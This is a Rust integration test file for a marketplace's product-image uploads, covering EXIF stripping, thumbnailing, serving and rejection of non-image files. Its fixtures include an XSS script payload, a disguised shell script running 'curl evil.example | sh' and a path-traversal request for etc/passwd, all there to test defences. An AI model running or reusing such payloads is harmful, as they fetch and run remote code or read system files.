//! Product images through the real binaries: uploads judged by their bytes (JPEG, PNG, WebP;
//! HTML, SVG, a renamed script, a truncated file and a decompression bomb refused with nothing
//! stored), metadata stripped, thumbnails made once each by the processor (also across a
//! kill -9), served by the query API from a local directory and from an S3-compatible server
//! (moto), limits, roles, order, cover and removal.

mod durability;
pub(crate) mod files;
mod rules;
pub(crate) mod support;

use pasar_tests::stack::Stack;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::support::{count, listed_product};
use files::{GPS_MARK, bomb, has_exif, jpeg, jpeg_with_gps, png, webp_with_alpha};
use support::{
    fetch, file, ids, keys_of, media_dir, product_events, served, stored_files, thumbnail,
    until_thumbnails, upload,
};

#[tokio::test]
async fn jpeg_png_and_webp_are_stored_re_encoded_thumbnailed_and_served_from_a_directory() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let gps = jpeg_with_gps(1600, 1200);
    assert!(has_exif(&gps), "the upload carries its EXIF GPS block");
    let uploads = [
        file("holiday.jpg", "image/jpeg", gps),
        file("label.png", "image/png", png(800, 600, 1)),
        file("logo.webp", "image/webp", webp_with_alpha(300, 200)),
    ];

    // Act: the upload, then its retry with the same key.
    let token = Some(listed.seller_token.as_str());
    let (status, first) = upload(&stack, listed.product_id, token, &uploads, Some("up-1")).await;
    let (retry_status, retry) =
        upload(&stack, listed.product_id, token, &uploads, Some("up-1")).await;

    // Assert: recorded once, processing until the thumbnails exist.
    assert_eq!(status, StatusCode::CREATED, "{first}");
    assert_eq!(retry_status, StatusCode::CREATED, "{retry}");
    assert_eq!(ids(&first, "added"), ids(&retry, "added"));
    assert_eq!(ids(&first, "added").len(), 3);
    assert!(first["consistency_token"].is_string());
    let added = product_events(&stack, listed.product_id, "ProductImageAdded").await;
    assert_eq!(added.len(), 3, "{added:?}");
    let types: Vec<&str> = added
        .iter()
        .map(|e| e["content_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["image/jpeg", "image/png", "image/webp"]);
    let detail = until_thumbnails(&stack, listed.product_id, 3).await;
    let images = detail["images"].as_array().unwrap();
    assert_eq!(images[0]["cover"], true);
    assert_eq!(
        (images[0]["width"].clone(), images[0]["height"].clone()),
        (json!(1600), json!(1200))
    );
    let sizes = |i: &Value, s: u64| {
        (
            thumbnail(i, s)["width"].clone(),
            thumbnail(i, s)["height"].clone(),
        )
    };
    assert_eq!(sizes(&images[0], 160), (json!(160), json!(120)));
    assert_eq!(sizes(&images[0], 480), (json!(480), json!(360)));
    assert_eq!(sizes(&images[0], 1200), (json!(1200), json!(900)));
    assert_eq!(
        sizes(&images[2], 1200),
        (json!(300), json!(200)),
        "never enlarged"
    );
    assert_eq!(
        product_events(&stack, listed.product_id, "ProductImageThumbnailsMade")
            .await
            .len(),
        3
    );

    // Served: the original re-encoded without its EXIF block, thumbnails in their types.
    let original = served(&stack, images[0]["url"].as_str().unwrap(), "image/jpeg").await;
    assert!(!has_exif(&original), "EXIF (and {GPS_MARK:?}) stripped");
    let decoded = image::load_from_memory(&original).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (1600, 1200));
    served(&stack, images[1]["url"].as_str().unwrap(), "image/png").await;
    served(&stack, images[2]["url"].as_str().unwrap(), "image/webp").await;
    let small = thumbnail(&images[0], 160)["url"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(!has_exif(&served(&stack, &small, "image/jpeg").await));
    served(
        &stack,
        thumbnail(&images[2], 160)["url"].as_str().unwrap(),
        "image/webp",
    )
    .await;

    // The store holds exactly what the product names; listings and search show the cover.
    assert_eq!(stored_files(&media_dir(&stack)), keys_of(&detail));
    let listing = format!(
        "/v1/products?seller={}",
        detail["seller_id"].as_str().unwrap()
    );
    let (_, page) = stack.query(&listing, None, None).await;
    assert_eq!(page["items"][0]["thumbnail_url"], json!(small), "{page}");
    stack
        .eventually("/v1/search?q=kaos", None, |r| {
            r["hits"][0]["thumbnail_url"] == json!(small)
        })
        .await;

    // Unknown or foreign keys are 404 before the store is asked.
    let hash = "0".repeat(64);
    for path in [
        format!("/v1/media/images/{hash}.jpg"),
        format!("/v1/media/other/{hash}.jpg"),
        "/v1/media/images/..%2F..%2Fetc%2Fpasswd".to_owned(),
        format!("/v1/media/images/{hash}.svg"),
    ] {
        let (status, headers, _) = fetch(&stack, &path, &[]).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        assert_eq!(headers["content-type"], "application/problem+json");
    }
}

#[tokio::test]
async fn files_that_are_not_images_are_refused_and_nothing_is_stored() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let token = Some(listed.seller_token.as_str());
    let good = jpeg(64, 48, 1);
    let truncated = {
        let whole = jpeg(400, 300, 2);
        whole[..whole.len() / 2].to_vec()
    };
    let cases = [
        (
            vec![file(
                "photo.jpg",
                "image/jpeg",
                b"<!doctype html><script>alert(1)</script>".to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file(
                "logo.svg",
                "image/svg+xml",
                b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                    .to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file(
                "photo.png",
                "image/png",
                b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file("cut.jpg", "image/jpeg", truncated)],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            vec![file("bomb.png", "image/png", bomb())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        // One bad file refuses the good one with it.
        (
            vec![
                file("ok.jpg", "image/jpeg", good),
                file("page.jpg", "image/jpeg", b"<html></html>".to_vec()),
            ],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
    ];

    for (files, expected) in cases {
        // Act
        let (status, body) = upload(&stack, listed.product_id, token, &files, None).await;

        // Assert
        assert_eq!(status, expected, "{}: {body}", files[0].name);
        assert!(
            body["title"].is_string() && body["detail"].is_string(),
            "{body}"
        );
    }
    let (status, _, _) = stack
        .command(
            Method::POST,
            &format!("/v1/products/{}/images", listed.product_id),
            token,
            Some(json!({"files": []})),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "JSON is not a form"
    );
    assert_eq!(
        count(&stack, "ProductImageAdded").await,
        0,
        "nothing in the log"
    );
    assert!(
        stored_files(&media_dir(&stack)).is_empty(),
        "nothing in the store"
    );
}
